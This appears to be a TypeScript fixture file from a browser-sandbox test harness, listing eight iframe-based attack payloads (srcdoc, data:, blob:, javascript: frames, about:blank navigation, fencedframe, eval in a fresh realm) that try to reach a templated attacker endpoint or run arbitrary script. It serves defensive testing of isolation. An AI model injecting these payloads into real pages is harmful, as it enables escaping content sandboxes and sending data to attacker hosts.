import type { Attack } from "../support/attack.ts";

export const frameAttacks: readonly Attack[] = [
  {
    id: "iframe-src",
    title: "nested <iframe src=attacker>",
    code: String.raw`document.body.insertAdjacentHTML('beforeend','<iframe src="{{E}}/html/{{T}}"></iframe>')`,
    signs: ["egress"],
  },
  {
    id: "iframe-srcdoc-net",
    title: "nested srcdoc that loads from the attacker",
    code: String.raw`const f=document.createElement('iframe');f.srcdoc='<img src="{{E}}/x/{{T}}-img"><script>fetch("{{E}}/x/{{T}}-fetch",{mode:"no-cors"})<\/script><meta http-equiv=refresh content="0;url={{E}}/html/{{T}}">';document.body.append(f)`,
    signs: ["egress"],
  },
  {
    id: "iframe-data",
    title: "nested data: frame",
    code: String.raw`const f=document.createElement('iframe');f.src='data:text/html,<img src="{{E}}/x/{{T}}"><script>fetch("{{E}}/x/{{T}}-f",{mode:"no-cors"})</scr'+'ipt>';document.body.append(f)`,
    signs: ["egress"],
  },
  {
    id: "iframe-blob",
    title: "nested blob: frame",
    code: String.raw`const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src="{{E}}/x/{{T}}"><script>fetch("{{E}}/x/{{T}}-f",{mode:"no-cors"})</scr'+'ipt>'],{type:'text/html'}));document.body.append(f)`,
    signs: ["egress"],
  },
  {
    id: "iframe-blank-nav",
    title: "about:blank child navigated to the attacker",
    code: String.raw`const f=document.createElement('iframe');document.body.append(f);f.contentWindow.location='{{E}}/html/{{T}}'`,
    signs: ["egress"],
  },
  {
    id: "iframe-javascript",
    title: "nested javascript: frame",
    code: String.raw`const f=document.createElement('iframe');f.src='javascript:fetch("{{E}}/x/{{T}}",{mode:"no-cors"})';document.body.append(f)`,
    signs: ["egress"],
  },
  {
    id: "fencedframe",
    title: "<fencedframe>",
    code: String.raw`const f=document.createElement('fencedframe');document.body.append(f);f.config=new FencedFrameConfig('{{E}}/html/{{T}}')`,
    signs: ["egress"],
    powerless: "the constructor was taken out of Chromium",
  },
  {
    id: "realm-code",
    title: "script of the attacker's choice runs in a fresh realm (srcdoc)",
    code: String.raw`const f=document.createElement('iframe');f.srcdoc='<script>console.log("PWNED {{T}} fresh realm runs free code, RTC="+(typeof RTCPeerConnection))<\/script>';document.body.append(f);const g=document.createElement('iframe');document.body.append(g);try{g.contentWindow["eval"]('console.log("PWNED {{T}} about:blank realm")')}catch(e){}`,
    signs: ["log"],
  },
];
